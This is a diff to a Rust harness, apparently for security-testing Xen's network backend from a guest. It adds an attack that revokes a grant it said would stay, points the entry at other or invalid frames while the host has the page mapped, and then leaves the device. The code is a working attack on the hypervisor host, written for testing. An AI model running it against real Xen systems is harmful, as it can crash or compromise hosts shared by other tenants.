@@ -1,7 +1,7 @@
 //! Attacks on the transmit ring: indexes, lengths, chains, grants.
 
 use crate::net::{self, CSUM_BLANK, EXTRA_INFO, FRAME, MORE_DATA, Tx};
-use crate::target::{Net, Target};
+use crate::target::{GRANTS_STAY, Net, Target};
 use xen_rt::grant::Access;
 
 /// Milliseconds the host gets to react.
@@ -201,6 +201,35 @@ pub(crate) fn grant_vanishes(target: &mut Target) -> Option<()> {
     }
     target.pause(A_WHILE);
     Some(())
+}
+
+/// Takes a grant back that it has said stays, and has it name other frames, while the host has the
+/// page mapped; then leaves the device, so that the host unmaps what is not there any more.
+pub(crate) fn kept_vanishes(target: &mut Target) -> Option<()> {
+    const ENTRY: u32 = 494;
+    let request = Tx { gref: ENTRY, ..good(target)? };
+    let frame = |page| u32::try_from(target.boot.frame(target.pages.address(page).addr())).ok();
+    let (first, second) = (frame(0)?, frame(1)?);
+    let slot = ring(target)?.slot;
+    for _ in 0..4 {
+        target.take_again(slot, GRANTS_STAY);
+        let entries = [
+            (first, 1),
+            (first, 1),
+            (first, 1),
+            (0, 0),
+            (second, 1),
+            (0, 1),
+            (u32::MAX, 1),
+            (0, 0),
+        ];
+        for (frame, permitted) in entries {
+            target.grants.write(ENTRY, 0, frame, permitted);
+            send(target, |_| request)?;
+        }
+    }
+    target.take_again(slot, GRANTS_STAY);
+    send(target, |_| request)
 }
 
 /// Changes request and packet again and again while the host may be reading them.
